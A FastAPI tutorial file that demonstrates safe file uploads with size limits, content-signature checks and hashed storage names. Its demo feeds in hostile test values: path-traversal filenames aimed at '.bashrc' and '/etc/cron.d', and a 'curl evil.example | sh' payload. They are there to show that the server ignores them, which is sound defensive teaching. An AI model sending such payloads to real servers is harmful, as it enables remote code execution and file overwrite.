# --8<-- [start:app]
import atexit
import hashlib
import shutil
import tempfile
from pathlib import Path

from fastapi import FastAPI, HTTPException, UploadFile, status
from starlette.middleware.body_limit import RequestBodyLimitMiddleware

MAX_BODY_BYTES = 1024 * 1024  # 1 MiB per request: the file plus a little form framing
# How each accepted type's bytes begin (its "magic number"), and the suffix it is saved with.
SIGNATURES = {
    b"\x89PNG\r\n\x1a\n": ("image/png", ".png"),
    b"\xff\xd8\xff": ("image/jpeg", ".jpg"),
    b"%PDF-": ("application/pdf", ".pdf"),
}
# A fresh, private folder for this demo, deleted when the process exits.
# A real app reads its folder from its settings.
UPLOAD_DIR = Path(tempfile.mkdtemp(prefix="receipts-"))
atexit.register(shutil.rmtree, UPLOAD_DIR, ignore_errors=True)

# The answers besides 201 and 422, declared so that the docs list them (see Example 12).
UPLOAD_ERRORS = {
    status.HTTP_400_BAD_REQUEST: {"description": "Not valid multipart/form-data"},
    status.HTTP_413_CONTENT_TOO_LARGE: {"description": "The body is over 1 MiB"},
}
NOT_ACCEPTED = {
    status.HTTP_415_UNSUPPORTED_MEDIA_TYPE: {"description": "Not a PNG, JPEG or PDF"}
}

app = FastAPI()
# Counts the body while it arrives: over the limit, the request ends with 413 and the
# app reads no more of it. A Content-Length over the limit is refused up front.
app.add_middleware(RequestBodyLimitMiddleware, max_body_size=MAX_BODY_BYTES)


def detect_type(content: bytes) -> tuple[str, str] | None:
    """The (media type, suffix) announced by the content's first bytes, if we take it."""
    for signature, kind in SIGNATURES.items():
        if content.startswith(signature):
            return kind
    return None


@app.post(
    "/receipts",
    status_code=status.HTTP_201_CREATED,
    responses={**UPLOAD_ERRORS, **NOT_ACCEPTED},
)
def upload_receipt(file: UploadFile):
    content = file.file.read()  # at most MAX_BODY_BYTES, thanks to the middleware
    kind = detect_type(content)  # file.content_type is ignored: the client chose it
    if kind is None:
        raise HTTPException(
            status.HTTP_415_UNSUPPORTED_MEDIA_TYPE, "Upload a PNG, JPEG or PDF file"
        )
    media_type, suffix = kind
    # The name on disk comes from the content, never from file.filename.
    stored_as = hashlib.sha256(content).hexdigest()[:16] + suffix
    (UPLOAD_DIR / stored_as).write_bytes(content)
    return {"stored_as": stored_as, "media_type": media_type, "size": len(content)}


# --8<-- [end:app]


# --8<-- [start:claims]
@app.post("/claims", responses=UPLOAD_ERRORS)
def what_the_client_claims(file: UploadFile):
    # All three come from the client. None of them has been checked by anyone.
    return {
        "filename": file.filename,
        "content_type": file.content_type,
        "size": file.size,
    }


# --8<-- [end:claims]

# --8<-- [start:demo]
if __name__ == "__main__":
    from fastapi.testclient import TestClient

    client = TestClient(app)
    samples = Path(__file__).parent / "ex17_file_uploads"
    receipt = (samples / "receipt.pdf").read_bytes()

    # A file's name and content type are just text the client chose.
    lie = ("../../home/app/.bashrc", b"curl evil.example | sh\n", "image/png")
    print(client.post("/claims", files={"file": lie}).json())
    #> {'filename': '../../home/app/.bashrc', 'content_type': 'image/png', 'size': 23}

    upload = ("receipt.pdf", receipt, "application/pdf")
    response = client.post("/receipts", files={"file": upload})
    print(response.status_code, response.json())
    '''
    201
    {'stored_as': 'c4051adb6b22e67d.pdf', 'media_type': 'application/pdf', 'size': 602}
    '''

    # A path in the filename changes nothing: it is never used.
    upload = ("../../etc/cron.d/evil", receipt, "application/pdf")
    response = client.post("/receipts", files={"file": upload})
    print(response.status_code, response.json())
    '''
    201
    {'stored_as': 'c4051adb6b22e67d.pdf', 'media_type': 'application/pdf', 'size': 602}
    '''
    print([path.name for path in UPLOAD_DIR.iterdir()])
    #> ['c4051adb6b22e67d.pdf']

    # Declared as a PDF, but its bytes say otherwise.
    upload = ("notes.pdf", (samples / "notes.txt").read_bytes(), "application/pdf")
    response = client.post("/receipts", files={"file": upload})
    print(response.status_code, response.json())
    #> 415 {'detail': 'Upload a PNG, JPEG or PDF file'}

    # 2 MiB: refused before the handler runs.
    upload = ("big.pdf", b"%PDF-" + bytes(2 * MAX_BODY_BYTES), "application/pdf")
    response = client.post("/receipts", files={"file": upload})
    print(response.status_code, response.text)
    #> 413 Content Too Large

    # A plain text field where the file should be.
    response = client.post("/receipts", data={"file": "receipt.pdf"})
    print(response.status_code, response.json()["detail"][0]["msg"])
    #> 422 Value error, Expected UploadFile, received: <class 'str'>
# --8<-- [end:demo]
